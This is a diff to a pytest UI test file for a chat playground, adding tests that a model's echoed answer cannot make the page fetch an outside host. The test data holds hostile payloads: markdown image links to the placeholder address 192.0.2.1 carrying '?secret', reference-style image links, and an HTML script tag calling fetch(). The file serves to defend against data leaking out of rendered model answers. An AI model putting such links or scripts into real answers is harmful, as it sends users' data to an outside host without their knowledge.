@@ -4,8 +4,9 @@ import json
 
 import pytest
 
-from tests.ui.depot import EARLY, ENDLESS, MODEL, Depot
+from tests.ui.depot import EARLY, ECHO, ENDLESS, MODEL, Depot
 from tests.ui.page import PAGES, opened, words
+from ui.harmless import harmless
 
 
 @pytest.fixture(autouse=True)
@@ -37,6 +38,31 @@ def test_a_chat_is_streamed_with_its_times() -> None:
     assert f"{MODEL} · " in seen
     page.chat_input[0].set_value("What is 1+1?").run()
     assert "42" in [element.value for element in page.markdown], "what was said stays"
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        "![x](http://192.0.2.1/?secret)",
+        "a `` ` ![x](http://192.0.2.1/)",
+        "<div>\n```\n\n![x][y]\n\n```\n\n[y]: http://192.0.2.1/",
+        "<img src=http://192.0.2.1/><script>fetch('http://192.0.2.1/')</script>![x](//192.0.2.1/)",
+    ],
+)
+def test_a_hostile_answer_fetches_nothing(said: str) -> None:
+    """An image is fetched when it is drawn; nothing of an answer may be sent away by that."""
+    page = opened("playground")
+    page.chat_input[0].set_value(f"{ECHO}{said}").run()
+    drawn = [element for element in page.markdown if "192.0.2.1" in element.value]
+    assert len(drawn) == 2  # the question and the answer
+    assert all("![" not in element.value and not element.proto.allow_html for element in drawn)
+
+
+def test_code_with_brackets_is_left_alone_and_megabytes_are_cut() -> None:
+    page = opened("playground")
+    page.chat_input[0].set_value(f"{ECHO}let a = vec![1, 2];").run()
+    assert "let a = vec![1, 2];" in [element.value for element in page.markdown]
+    assert harmless("x" * 3_000_000).endswith("\n\n… 2900000 more characters are not shown.")
 
 
 def test_two_models_answer_side_by_side() -> None:
